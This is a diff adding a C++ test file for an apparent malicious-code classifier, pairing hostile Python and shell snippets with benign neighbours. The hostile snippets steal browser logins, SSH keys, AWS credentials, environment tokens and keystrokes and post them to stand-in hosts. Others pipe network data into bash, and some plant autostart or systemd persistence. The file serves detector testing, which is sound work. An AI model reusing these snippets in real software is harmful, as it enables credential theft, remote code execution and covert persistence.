@@ -1,0 +1,205 @@
+// The classes the fifteenth round modelled (issue 14), found by programs
+// written from the rubric alone by writers who never saw the assessor
+// (tests/corpus/prog19_MANIFEST.tsv) and by probes of common Python idioms.
+// Each attack has a benign neighbour that must stay where the rubric puts it.
+// Strings here are never executed.
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// Writers that wrap a stream write into it: csv.writer(buf).writerow,
+// DictWriter, print(..., file=buf), writelines. The buffer then holds the
+// rows, and sending it sends them.
+TEST(FifteenthRoundClasses, StreamWritersFillTheirStream) {
+  const Case cases[] = {
+      {"browser logins through a CSV writer to mail", B,
+       "import csv, io, smtplib, sqlite3\nfrom pathlib import Path\n"
+       "db = Path.home() / '.config' / 'google-chrome' / 'Default' / 'Login Data'\n"
+       "rows = sqlite3.connect(str(db)).execute('SELECT * FROM logins').fetchall()\n"
+       "out = io.StringIO()\ncsv.writer(out).writerows(rows)\n"
+       "with smtplib.SMTP_SSL('smtp.example.net', 465) as s:\n    s.sendmail('a@x', 'b@y', out.getvalue())\n",
+       "EXFILTRATION"},
+      {"a key printed into a buffer that is posted", B,
+       "import io, requests\nfrom pathlib import Path\nbuf = io.StringIO()\n"
+       "print((Path.home() / '.ssh' / 'id_rsa').read_text(), file=buf)\n"
+       "requests.post('https://collect.example.net/u', data=buf.getvalue())\n",
+       "EXFILTRATION"},
+      {"DictWriter rows of the environment", B,
+       "import csv, io, os, requests\nbuf = io.StringIO()\n"
+       "w = csv.DictWriter(buf, fieldnames=['k', 'v'])\n"
+       "w.writerows({'k': k, 'v': v} for k, v in os.environ.items())\n"
+       "requests.post('https://collect.example.net/env', data=buf.getvalue())\n",
+       "EXFILTRATION"},
+      // Neighbours: the same writers over ordinary data, to a file or a reply.
+      {"a CSV report of local sizes written to a file", L,
+       "import csv, os\nwith open('sizes.csv', 'w', newline='') as f:\n    w = csv.writer(f)\n"
+       "    for name in os.listdir('.'):\n        w.writerow([name, os.path.getsize(name)])\n"},
+      {"print to stderr", L, "import sys\nprint('starting', file=sys.stderr)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Queues and deques between threads or tasks hold what was put in them: a
+// keylogger's callback puts, an uploader thread gets and sends.
+TEST(FifteenthRoundClasses, QueuesCarryWhatWasPut) {
+  const Case cases[] = {
+      {"keys through a queue to an uploader thread", B,
+       "import queue, threading, requests\nfrom pynput import keyboard\nq = queue.Queue()\n"
+       "def on_press(key):\n    q.put(str(key))\nkeyboard.Listener(on_press=on_press).start()\n"
+       "class Up(threading.Thread):\n    def run(self):\n        batch = [q.get() for _ in range(50)]\n"
+       "        requests.post('https://ingest.example.org/k', data=''.join(batch))\nUp().start()\n",
+       "EXFILTRATION"},
+      {"a secret through a deque", B,
+       "import collections, os, requests\ndq = collections.deque(maxlen=10)\n"
+       "dq.append(os.environ['AWS_SECRET_ACCESS_KEY'])\nfor item in dq:\n"
+       "    requests.post('https://collect.example.net/k', data=item)\n",
+       "EXFILTRATION"},
+      {"credentials through an asyncio queue", B,
+       "import asyncio, aiohttp\nfrom pathlib import Path\nasync def producer(q):\n"
+       "    await q.put((Path.home() / '.aws' / 'credentials').read_text())\nasync def consumer(q):\n"
+       "    data = await q.get()\n    async with aiohttp.ClientSession() as s:\n"
+       "        await s.post('https://collect.example.net/c', data=data)\nasync def main():\n"
+       "    q = asyncio.Queue()\n    await asyncio.gather(producer(q), consumer(q))\nasyncio.run(main())\n",
+       "EXFILTRATION"},
+      // Neighbour: a work queue of URLs fetched by workers.
+      {"a queue of URLs to fetch", L,
+       "import queue, threading, requests\nq = queue.Queue()\n"
+       "for u in ['https://example.org/a', 'https://example.org/b']:\n    q.put(u)\n"
+       "def worker():\n    while not q.empty():\n        print(requests.get(q.get(), timeout=10).status_code)\n"
+       "threading.Thread(target=worker).start()\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Class machinery: a staticmethod called through self binds no self; a
+// classmethod gets its class (cls() is an instance); attributes a base's
+// __init__ sets (through super().__init__()) are the subclass instance's;
+// a generated constructor (dataclass, NamedTuple) stores its arguments in
+// the annotated fields; setattr(obj, "name", v) is obj.name = v.
+TEST(FifteenthRoundClasses, ClassMachineryKeepsTheFlow) {
+  const char* key = "(Path.home() / '.ssh' / 'id_rsa').read_text()";
+  const std::string head = "import requests\nfrom pathlib import Path\n";
+  const std::string staticmethod_case =
+      head + "class K:\n    @staticmethod\n    def name(k):\n        return str(k)\n"
+             "    def send(self, k):\n        requests.post('https://x.example.net', data=self.name(k))\n"
+             "K().send(" + key + ")\n";
+  const std::string classmethod_case =
+      head + "class C:\n    URL = 'https://x.example.net/u'\n    @classmethod\n    def create(cls):\n"
+             "        return cls()\n    def send(self, d):\n        requests.post(self.URL, data=d)\n"
+             "C.create().send(" + key + ")\n";
+  const std::string super_case =
+      head + "class Base:\n    def __init__(self):\n        self.session = requests.Session()\n"
+             "    def push(self, d):\n        self.session.post('https://x.example.net/u', data=d)\n"
+             "class Sync(Base):\n    def __init__(self):\n        super().__init__()\n"
+             "Sync().push(" + key + ")\n";
+  const std::string dataclass_case =
+      head + "from dataclasses import dataclass\n@dataclass\nclass Job:\n    url: str\n    body: str\n"
+             "j = Job('https://x.example.net/u', " + key + ")\nrequests.post(j.url, data=j.body)\n";
+  const std::string namedtuple_case =
+      head + "import typing\nclass Job(typing.NamedTuple):\n    url: str\n    body: str\n"
+             "j = Job(url='https://x.example.net/u', body=" + key + ")\nrequests.post(j.url, data=j.body)\n";
+  const std::string setattr_case =
+      head + "class Box: pass\nb = Box()\nsetattr(b, 'payload', " + key + ")\n"
+             "requests.post('https://x.example.net/u', data=getattr(b, 'payload'))\n";
+  const Case cases[] = {
+      {"staticmethod through self", B, staticmethod_case.c_str(), "EXFILTRATION"},
+      {"classmethod factory", B, classmethod_case.c_str(), "EXFILTRATION"},
+      {"session set by the base's __init__", B, super_case.c_str(), "EXFILTRATION"},
+      {"dataclass fields", B, dataclass_case.c_str(), "EXFILTRATION"},
+      {"NamedTuple fields by keyword", B, namedtuple_case.c_str(), "EXFILTRATION"},
+      {"setattr then getattr", B, setattr_case.c_str(), "EXFILTRATION"},
+      // Neighbours: the same machinery carrying ordinary data.
+      {"dataclass of a URL fetched", L,
+       "import requests\nfrom dataclasses import dataclass\n@dataclass\nclass Target:\n    url: str\n"
+       "    timeout: float = 10.0\nt = Target('https://example.org/health')\n"
+       "print(requests.get(t.url, timeout=t.timeout).status_code)\n"},
+      {"setattr of a TLS default is still insecure", M,
+       "import ssl, urllib.request\nsetattr(ssl, '_create_default_https_context', ssl._create_unverified_context)\n"
+       "urllib.request.urlopen('https://example.org').read()\n",
+       "TLS-VERIFICATION-OFF"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Callbacks get what they are bound to: functools.partial(f, x) runs f with
+// x; keyword arguments of register/submit/to_thread are the callback's.
+TEST(FifteenthRoundClasses, CallbacksGetTheirBoundArguments) {
+  const Case cases[] = {
+      {"partial bound to a key, run by a thread", B,
+       "import functools, threading, requests\nfrom pathlib import Path\n"
+       "def send(data, url):\n    requests.post(url, data=data)\n"
+       "threading.Thread(target=functools.partial(send, (Path.home() / '.ssh' / 'id_rsa').read_text(), "
+       "'https://x.example.net/u')).start()\n",
+       "EXFILTRATION"},
+      {"atexit with a keyword argument", B,
+       "import atexit, os, requests\ndef send(data=None):\n    requests.post('https://x.example.net/u', data=data)\n"
+       "atexit.register(send, data=os.environ.get('GITHUB_TOKEN'))\n",
+       "EXFILTRATION"},
+      {"asyncio.to_thread", B,
+       "import asyncio, requests\nfrom pathlib import Path\ndef send(d):\n    requests.post('https://x.example.net/u', data=d)\n"
+       "async def main():\n    await asyncio.to_thread(send, (Path.home() / '.aws' / 'credentials').read_text())\n"
+       "asyncio.run(main())\n",
+       "EXFILTRATION"},
+      // Neighbour: a partial of an ordinary GET.
+      {"partial of a GET with a timeout", L,
+       "import functools, requests\nget = functools.partial(requests.get, timeout=5)\n"
+       "print(get('https://example.org').status_code)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// What is written to a shell's or interpreter's stdin is its program only
+// when it was given no script or code (bash -s, python3 -, or a one-liner
+// that evaluates stdin); a script reads data. os.execv(path, argv) runs
+// path, whatever argv[0] says.
+TEST(FifteenthRoundClasses, StdinIsCodeOnlyWithoutAScript) {
+  const std::string recv = "import subprocess, socket, os, sys\ns = socket.create_connection(('203.0.113.5', 80))\n"
+                           "data = s.recv(4096)\n";
+  const std::string to_bash = recv + "subprocess.run(['bash'], input=data)\n";
+  const std::string to_bash_s = recv + "p = subprocess.Popen('bash -s', shell=True, stdin=subprocess.PIPE)\np.communicate(data)\n";
+  const std::string to_one_liner = recv + "subprocess.run(['python3', '-c', 'import sys; exec(sys.stdin.read())'], input=data)\n";
+  const std::string to_script = recv + "p = subprocess.Popen([sys.executable, '-u', '/srv/cgi/handler.py'], stdin=subprocess.PIPE)\n"
+                                       "p.communicate(data)\n";
+  const std::string to_grep = recv + "subprocess.run(['grep', '-c', 'ERROR'], input=data)\n";
+  const std::string execv_shell = recv + "os.execv('/bin/sh', ['sh', '-c', data.decode()])\n";
+  const std::string execv_named = recv + "os.execv('/usr/lib/cgi-bin/status', [data.decode()])\n";
+  const Case cases[] = {
+      {"received data to bash", B, to_bash.c_str(), "REMOTE-CODE-EXECUTION"},
+      {"received data to bash -s", B, to_bash_s.c_str(), "REMOTE-CODE-EXECUTION"},
+      {"received data to a one-liner that execs stdin", B, to_one_liner.c_str(), "REMOTE-CODE-EXECUTION"},
+      {"received data to sh -c through execv", B, execv_shell.c_str(), "REMOTE-CODE-EXECUTION"},
+      // Neighbours: a request body on a CGI script's stdin; a count of lines.
+      {"request body to a script's stdin", M, to_script.c_str(), "RUNS-PROCESS"},
+      {"received data to grep", M, to_grep.c_str(), "RUNS-PROCESS"},
+      {"execv of a fixed program whose argv[0] is received", M, execv_named.c_str(), "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// The user's standard directories named by environment variables keep their
+// meaning in both languages ($XDG_CONFIG_HOME/autostart is ~/.config/autostart);
+// a path that is an unexpanded template ("$base/lib/.../site-packages") is
+// only a directory of that name in the working directory.
+TEST(FifteenthRoundClasses, EnvironmentDirectoriesAndTemplates) {
+  const Case cases[] = {
+      {"autostart entry under $XDG_CONFIG_HOME", B,
+       "#!/bin/bash\nmkdir -p \"$XDG_CONFIG_HOME/autostart\"\n"
+       "printf '[Desktop Entry]\\nExec=/tmp/.u\\n' > \"$XDG_CONFIG_HOME/autostart/update.desktop\"\n",
+       "PERSISTENCE", SH},
+      {"systemd user unit under os.environ XDG_CONFIG_HOME", B,
+       "import os\nbase = os.environ.get('XDG_CONFIG_HOME', os.path.expanduser('~/.config'))\n"
+       "os.makedirs(os.path.join(base, 'systemd', 'user'), exist_ok=True)\n"
+       "with open(os.path.join(base, 'systemd', 'user', 'sync.service'), 'w') as f:\n"
+       "    f.write('[Service]\\nExecStart=/tmp/.s\\n')\n",
+       "PERSISTENCE"},
+      // Neighbour: a scheme template written literally (distutils' install schemes).
+      {"a .pth under an unexpanded template", L,
+       "scheme = {'purelib': '$base/lib/python$py_version_short/site-packages'}\n"
+       "with open(scheme['purelib'] + '/probe.pth', 'w') as f:\n    f.write('.\\n')\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
